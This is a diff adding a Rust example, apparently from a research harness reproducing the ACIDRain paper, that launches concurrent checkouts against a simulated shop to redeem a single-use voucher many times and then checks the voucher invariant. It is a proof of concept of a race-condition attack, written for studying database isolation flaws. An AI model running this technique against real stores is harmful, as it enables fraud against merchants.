@@ -1,0 +1,62 @@
+//! The headline exploit from the paper's abstract: "users can buy a
+//! single gift card, then spend it an unlimited number of times by
+//! concurrently issuing checkout requests."
+//!
+//! ```text
+//! cargo run -p acidrain-harness --example voucher_attack [concurrency]
+//! ```
+//!
+//! Runs N concurrent voucher checkouts against Lightning Fast Shop using
+//! the threaded stress executor (the paper's real attack mechanics) and
+//! counts how many times the single-use voucher was redeemed.
+
+use std::time::Duration;
+
+use acidrain_apps::prelude::*;
+use acidrain_harness::stress::run_concurrent;
+
+fn main() {
+    let n: usize = std::env::args()
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(8);
+    let app = LightningFastShop;
+    let db = app.make_store(acidrain_db::IsolationLevel::MySqlRepeatableRead);
+    // Give the shop plenty of stock so only the voucher limit matters.
+    {
+        let mut conn = db.connect();
+        conn.execute("UPDATE products SET stock = 100000 WHERE id = 1")
+            .unwrap();
+        for cart in 1..=n as i64 {
+            app.add_to_cart(&mut conn, cart, PEN, 1).unwrap();
+        }
+    }
+    db.take_log();
+
+    println!("launching {n} concurrent checkout requests, all redeeming voucher {VOUCHER_CODE:?} (limit {VOUCHER_LIMIT})");
+    let tasks: Vec<_> = (1..=n as i64)
+        .map(|cart| {
+            let app = &app;
+            move |conn: &mut dyn SqlConn| {
+                app.checkout(conn, cart, &CheckoutRequest::with_voucher(VOUCHER_CODE))
+                    .is_ok()
+            }
+        })
+        .collect();
+    // A 2ms per-statement delay stands in for the paper's 200ms proxy,
+    // widening the race windows.
+    let results = run_concurrent(&db, tasks, Duration::from_millis(2));
+
+    let succeeded = results.iter().filter(|ok| **ok).count();
+    let redemptions = db.table_rows("voucher_applications").unwrap().len();
+    let counter = db.table_rows("vouchers").unwrap()[0][4].as_i64().unwrap();
+    println!("checkouts succeeded: {succeeded}/{n}");
+    println!("voucher redemptions recorded: {redemptions} (usage counter says {counter})");
+    match check_voucher(&db) {
+        Err(v) => println!("INVARIANT VIOLATED: {v}"),
+        Ok(()) => println!(
+            "invariant held this run — stress attacks are probabilistic; rerun or raise \
+             concurrency (the deterministic scheduler in `ecommerce_audit` lands it every time)"
+        ),
+    }
+}
